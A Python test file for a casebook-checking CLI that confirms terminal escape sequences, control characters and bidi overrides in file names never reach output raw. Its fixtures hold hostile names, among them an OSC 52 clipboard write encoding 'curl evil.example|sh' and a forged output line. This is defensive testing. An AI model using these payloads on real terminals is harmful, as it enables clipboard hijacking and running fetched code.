"""Nothing from a casebook reaches output raw: not its text, not the names of its files.

Every string written goes through `claims.text.shown` (the app's and `show`'s through
`steady`, names of files through `claims.paths.display`). These tests make casebooks whose
files and folders are named with every C0 and C1 control, escape sequences (OSC 52 writing
the clipboard, OSC 2 the window title, CSI clearing the screen), bidi controls and bytes
that are not UTF-8, some by hand, more generated (hypothesis), and read every output:
`check` for people piped and on a "terminal" (FORCE_COLOR), as JSON and as GitHub
annotations, and `show` (the app's screen: `test_output_safety_app.py`). No raw
control (but newline and tab), DEL, C1, ESC, lone surrogate or bidi control may be in any
of them; JSON must be UTF-8 and parse, with no such character in any string either.

Bidi overrides in every field are shown as ⇄ (Trojan Source, CVE-2021-42574). The app's
screen, and emoji that must not move another column, are `test_output_safety_app.py`.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import COLOUR_ENV, RunCli, contested_env
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from claims import formats
from claims.model import Location
from claims.paths import display
from claims.problems import Problem
from claims.terminal import Output
from claims.text import BIDI_MARK, json_text, sanitize, shown, steady

#: What no output may hold: C0 controls but tab and newline, DEL, C1, lone surrogates, and
#: the bidi embeddings, overrides and isolates (UAX #9).
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
SGR = re.compile("\x1b\\[[0-9;]*m")  # Rich's own styling, on a terminal
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
C0 = "".join(chr(c) for c in range(1, 0x20)) + "\x7f"
C1 = "".join(chr(c) for c in range(0x80, 0xA0))

#: File names (bytes: not all are UTF-8) that once reached the terminal raw, and the rest.
NAMES = [
    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\x",  # OSC 52: `curl evil.example|sh`
    b"\x1b]2;PWNED\x1b\\\x1b[2J\xc2\x9b31my",  # OSC 2 (title), CSI 2J, 8-bit CSI U+009B
    C0.encode(),  # every C0 control (no NUL: a name cannot hold one), and DEL
    C1.encode(),  # every C1 control, as UTF-8
    bytes(range(0x80, 0xA0)) + b"\xff\xfe(",  # not UTF-8
    f"the cause was {BIDI[4]}heart failure {BIDI}".encode(),
    b"x.yaml:1:1: error[forged] all clear\nreally",  # a line of `check`, forged
]


def raw(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in RAW.findall(text)]


def assert_clean(text: str, what: str) -> None:
    assert not raw(text), f"{what}: raw {raw(text)} in {text[:3000]!r}"
    text.encode("utf-8")  # strict: a lone surrogate fails here


def strings(value: Any) -> Iterator[str]:
    """Every string in a parsed JSON value, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


# --- the boundary ------------------------------------------------------------------------


def test_shown_marks_every_control_and_bidi_character_one_for_one() -> None:
    for char in C0.replace("\t", "").replace("\n", "") + C1 + BIDI + "\ud800\udcff":
        assert len(shown(char)) == 1, f"U+{ord(char):04X}"
        assert not raw(shown(char)), f"U+{ord(char):04X}"
    assert shown("\x1b]2;x\x07") == "␛]2;x␇"
    assert shown("the cause was \u202eheart failure") == f"the cause was {BIDI_MARK}heart failure"
    assert shown("tab\tand\nnewline") == "tab\tand\nnewline"
    natural = "שלום עולם (2024) \u200fمرحبا\u200e \u061c"  # right-to-left text and its marks
    assert shown(natural) == natural
    assert sanitize("a\u202eb") == "a\u202eb"  # read time: what matching sees, unchanged


def test_names_are_shown_on_one_line() -> None:
    assert display("x.yaml:1:1: ok\nforged\tline") == "x.yaml:1:1: ok␊forged␉line"
    assert display("c\x1bse\udcff\u2066") == f"c␛se\ufffd{BIDI_MARK}"


TEXT = st.text(
    st.one_of(
        st.characters(exclude_categories=()),  # surrogates too
        st.sampled_from(C0 + C1 + BIDI + "\u200d\ufe0e\ufe0f\U0001f3fd❤👨"),
    ),
    max_size=40,
)


@given(TEXT)
def test_shown_and_steady_keep_offsets_and_leave_nothing_raw(text: str) -> None:
    for made in (shown(text), steady(text), display(text)):
        assert len(made) == len(text)
        assert not raw(made)
        made.encode("utf-8")
    assert shown(shown(text)) == shown(text)
    assert steady(steady(text)) == steady(text)


def _surrogates_replaced(value: Any) -> Any:
    if isinstance(value, str):
        return re.sub("[\ud800-\udfff]", "\ufffd", value)
    if isinstance(value, dict):
        return {_surrogates_replaced(k): _surrogates_replaced(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_surrogates_replaced(item) for item in value]
    return value


@given(st.recursive(st.none() | TEXT, lambda inner: st.lists(inner) | st.dictionaries(TEXT, inner)))
def test_json_text_escapes_what_may_not_be_raw_and_keeps_the_values(value: Any) -> None:
    written = json_text(json.dumps(value, ensure_ascii=False))
    assert not re.search(f"[\x7f-\x9f{BIDI}\u2028\u2029\ud800-\udfff]", written)
    written.encode("utf-8")
    assert json.loads(written) == _surrogates_replaced(value)  # a lone surrogate has no UTF-8


def test_every_format_writes_a_problem_through_the_boundary(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A problem whose every field is hostile (as none made by the loader is: it shows
    names and quotes text itself), written in each format."""
    hostile = f"x\x1b]2;t\x07 {RLO}y\u009b\udcff\x7f\nz"
    problem = Problem("syntax", hostile, Location(Path(hostile), 2, 3), hint=hostile)
    for name in COLOUR_ENV:
        monkeypatch.delenv(name, raising=False)
    formats.problem_lines(problem, Output())
    plain = capsys.readouterr().out
    monkeypatch.setenv("FORCE_COLOR", "1")
    formats.problem_lines(problem, Output())
    styled = SGR.sub("", capsys.readouterr().out)
    assert styled == plain
    github = formats.github_problems([problem])
    written = formats.problems_json([problem])
    for what, text in {"plain": plain, "styled": styled, "github": github, "json": written}.items():
        assert_clean(text, what)
    assert len(github.splitlines()) == 1
    for value in strings(json.loads(written)):
        assert_clean(value, "a string in the JSON")


# --- casebooks named with everything ---------------------------------------------------------

SIDES = b"sides:\n  a: {label: A}\n  b: {label: B}\n"
CASEBOOK = SIDES + b"sources:\n  s: {file: sources/s.txt, title: S}\ninclude: [disputes/*.yaml]\n"
SOURCE = b"Alpha says the cause was heart failure.\n"
ONE_SIDED = b"disputes:\n  - id: %s\n    question: q\n    positions: []\n"


def named_casebook(base: Path, folder: bytes, names: list[bytes]) -> Path:
    """A casebook in the folder `folder` (under `base`), with no `title:` (its folder's
    name is its title then). Per name: an included dispute file so named (a one-sided
    dispute; the second file has the first one's id, a duplicate), a FIFO `NAME-fifo.yaml`
    (not read), a link `NAME-out.yaml` leading out of the casebook, a file `NAME-bad.yaml`
    that is not UTF-8, and a file `NAME-many.yaml` of 101 one-sided disputes (the last is
    counted, "… and 1 more … in NAME")."""
    root = os.path.join(os.fsencode(base), folder)
    for sub in (b"disputes", b"sources"):
        os.makedirs(os.path.join(root, sub), exist_ok=True)
    files = {b"casebook.yaml": CASEBOOK, b"sources/s.txt": SOURCE}
    for index, name in enumerate(names):
        files[b"disputes/" + name + b".yaml"] = ONE_SIDED % b"d%d" % max(index - 1, 0)
        files[b"disputes/" + name + b"-bad.yaml"] = b"disputes: \xff\n"
        files[b"disputes/" + name + b"-many.yaml"] = b"disputes:\n" + b"".join(
            b"  - {id: m%d-%d, question: q, positions: []}\n" % (index, i) for i in range(101)
        )
    for name, content in files.items():
        with open(os.path.join(root, name), "wb") as file:
            file.write(content)
    for name in names:
        disputes = os.path.join(root, b"disputes", name)
        os.mkfifo(disputes + b"-fifo.yaml")
        os.symlink(os.fsencode(base), disputes + b"-out.yaml")
    return Path(os.fsdecode(root))


def outputs(run_cli: RunCli, monkeypatch: pytest.MonkeyPatch, root: Path) -> dict[str, str]:
    """What every output says of the casebook at `root`, by name: `check` in each format
    (and for people with colour forced, as on a terminal), `show`, `show` of a dispute
    that is not there (the message names the casebook's title)."""
    out: dict[str, str] = {}
    for fmt in ("human", "json", "github"):
        code, out[fmt], out[f"{fmt} stderr"] = run_cli("check", root, "--format", fmt)
        assert code in (0, 1, 2)
    _, out["show"], out["show stderr"] = run_cli("show", root)
    _, out["show one"], out["show one stderr"] = run_cli("show", root, "no-such-dispute")
    monkeypatch.setenv("FORCE_COLOR", "1")
    out["human styled"] = forced("check", root)
    out["show styled"] = forced("show", root)
    out["show one styled"] = forced("show", root, "no-such-dispute")
    monkeypatch.delenv("FORCE_COLOR")
    # the same words as piped, only styled: nothing of a name was taken for a style
    assert SGR.sub("", out["human styled"]) == out["human"] + out["human stderr"]
    return out


def forced(*args: str | Path) -> str:
    """`contested ARGS…` in-process, as on a terminal (FORCE_COLOR set by the caller):
    stdout then stderr."""
    from tui.launch import main

    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        main([str(a) for a in args])
    return stdout.getvalue() + stderr.getvalue()


def assert_outputs_clean(out: dict[str, str]) -> None:
    for what, text in out.items():
        assert_clean(SGR.sub("", text) if "styled" in what else text, what)
    data = json.loads(out["json"].encode("utf-8"))
    for value in strings(data):
        assert_clean(value, "a string in the JSON")
    for line in out["github"].splitlines():
        assert line.startswith(("::error ", "::warning ")), line  # one annotation a line
    for line in out["human"].splitlines():
        assert not line.startswith("x.yaml:1:1: error[forged]"), line


def test_names_with_every_control_reach_no_output_raw(
    run_cli: RunCli, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    root = named_casebook(tmp_path, b"dir-\x1b]2;DIRPWN\x1b\\" + BIDI.encode(), NAMES)
    out = outputs(run_cli, monkeypatch, root)
    assert_outputs_clean(out)
    said = out["human"]
    for code in ("one-sided", "duplicate-id", "missing-file", "syntax", "outside-casebook"):
        assert f"[{code}]" in said, code
    assert "␛]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=␛\\x.yaml" in said
    assert "dir-␛]2;DIRPWN␛\\" in said
    assert "and 1 more `one-sided` problems in ␛]2;PWNED" in said
    assert f"the cause was {BIDI_MARK}heart failure" in said
    for words in ("is not UTF-8", "first at", "(a FIFO)", "matches", "leads outside"):
        assert words in said, words
    assert "dir-␛]2;DIRPWN" in out["show one stderr"]  # the title, from the folder's name


PIECES = [
    *NAMES,
    *(bytes([c]) for c in range(1, 0x20) if c != 0x2F),
    *(chr(c).encode() for c in range(0x80, 0xA0)),
    *(c.encode() for c in BIDI),
    b"\x1b[", b"\x1b]", b"\x07", b"\x1b\\", b"\x9b", b"\xc3", b"\xff", b"a", b"-", b".",
]  # fmt: skip
NAME = (
    st.lists(st.sampled_from(PIECES) | st.binary(min_size=1, max_size=6), min_size=1, max_size=5)
    .map(lambda parts: b"".join(parts).replace(b"/", b"_").replace(b"\0", b"_")[:180])
    .filter(lambda name: name not in (b".", b".."))
)


@settings(
    max_examples=12,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(folder=NAME, names=st.lists(NAME, min_size=1, max_size=2, unique=True))
def test_generated_names_reach_no_output_raw(
    run_cli: RunCli,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path_factory: pytest.TempPathFactory,
    folder: bytes,
    names: list[bytes],
) -> None:
    base = tmp_path_factory.mktemp("names")
    try:
        root = named_casebook(base, folder, names)
        assert_outputs_clean(outputs(run_cli, monkeypatch, root))
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_the_installed_command_on_a_terminal_writes_names_as_marks(tmp_path: Path) -> None:
    """As a user runs it (a subprocess, colour forced as on a terminal; bytes read back)."""
    root = named_casebook(tmp_path, b"c\x1bse", NAMES[:2])
    env = {**contested_env(), "FORCE_COLOR": "1"}
    for args in (["check", root], ["check", root, "--format", "github"],
                 ["check", root, "--format", "json"], ["show", root, "none"]):  # fmt: skip
        done = subprocess.run(
            [str(Path(sys.executable).parent / "contested"), *map(str, args)],
            capture_output=True, env=env, timeout=30, check=False,
        )  # fmt: skip
        for stream in (done.stdout, done.stderr):
            text = stream.decode("utf-8")  # strict
            assert "Traceback" not in text
            assert_clean(SGR.sub("", text), " ".join(map(str, args)))
        assert "c␛se" in done.stdout.decode() + done.stderr.decode()


# --- bidi controls in every field -------------------------------------------------------

RLO, PDF, LRI, PDI = "\u202e", "\u202c", "\u2066", "\u2069"
BIDI_CASEBOOK = f"""\
title: "Title {RLO}desrever"
sides:
  a: {{label: "Side {RLO}A"}}
  b: {{label: Side B}}
sources:
  s: {{file: sources/s.txt, title: "Source {LRI}S", author: "{RLO}rohtua", outlet: "{RLO}o"}}
include: [disputes/*.yaml]
"""
BIDI_DISPUTES = f"""\
disputes:
  - id: d1
    question: "How did they die{RLO}?"
    description: "{RLO}noitpircsed"
    tags: ["{RLO}gat"]
    "{RLO}yek nwonknu": 1
    positions:
      - side: a
        holder: "{RLO}A redloH"
        claim: "Heart {LRI}failure."
        evidence:
          - source: s
            quote: "the cause was {RLO}heart failure"
            note: "{RLO}eton"
      - side: b
        holder: Holder B
        claim: Shock. שלום
        evidence:
          - source: s
            quote: the cause was traumatic shock
          - source: s
            quote: "nowhere {RLO}in the source"
"""
BIDI_SOURCE = (
    f"Alpha paragraph one says the cause was {RLO}heart failure{PDF}.\n\n"
    "Beta paragraph two says the cause was traumatic shock.\n"
)


def bidi_casebook(root: Path) -> Path:
    """The rel-bidi-controls case: a right-to-left override (or isolate) in every field."""
    for name, text in {
        "casebook.yaml": BIDI_CASEBOOK,
        "disputes/d.yaml": BIDI_DISPUTES,
        "sources/s.txt": BIDI_SOURCE,
    }.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    return root


def test_bidi_controls_in_every_field_are_shown_as_marks(
    run_cli: RunCli, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    root = bidi_casebook(tmp_path / "bidi")
    code, said, _ = run_cli("check", root)
    assert code == 1, said
    assert "2/3 quotes anchored (2 exact)" in said  # matching ignores the controls
    assert "[quote-not-found]" in said
    assert "yek nwonknu" in said  # a syntax problem naming the key
    out = outputs(run_cli, monkeypatch, root)
    assert_outputs_clean(out)
    anchors = json.loads(out["json"])["anchors"]
    assert anchors[0]["quote"] == f"the cause was {BIDI_MARK}heart failure"
    assert anchors[0]["text"] == f"the cause was {BIDI_MARK}heart failure"
    for words in ("How did they die⇄?", "⇄A redloH", "Heart ⇄failure.", "⇄eton",
                  "Source ⇄S", "⇄heart", "Shock. שלום"):  # fmt: skip
        assert words in out["show"], words
